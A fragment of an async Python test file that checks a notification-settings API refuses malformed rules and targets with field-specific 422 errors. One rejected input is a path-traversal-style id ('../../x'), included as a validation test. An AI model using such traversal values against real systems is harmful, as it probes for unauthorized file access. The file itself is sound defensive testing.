    ({}, {"id": "../../x"}, "body.rules.0.to.0"),
    ({}, {"kind": "webpush", "url": None}, "body.targets.0.subscription"),
    ({}, {"kind": "pigeon"}, "body.targets.0.kind"),
]


async def test_wrong_settings_are_refused_by_their_field(rest: Rest) -> None:
    ana = await person(rest, "ana", "editor")
    for rule, target, field in WRONG:
        body = {
            "rules": [{"when": ["failed"], "to": [target.get("id", "phone")]} | rule],
            "targets": [{"id": "phone", "kind": "ntfy", "url": "ntfy://ntfy.sh/topic"} | target],
        }
        refused = await rest.admin.put(SETTINGS, json=body, headers=ana)
        assert refused.status_code == 422, (body, refused.text)
        assert refused.json()["errors"][0]["field"].startswith(field), refused.text
    twice = [{"id": "phone", "kind": "ntfy", "url": "ntfy://ntfy.sh/topic"}] * 2
    refused = await rest.admin.put(SETTINGS, json={"rules": [], "targets": twice}, headers=ana)
    assert refused.status_code == 422
    assert PERMISSION["kind"] == "permission"
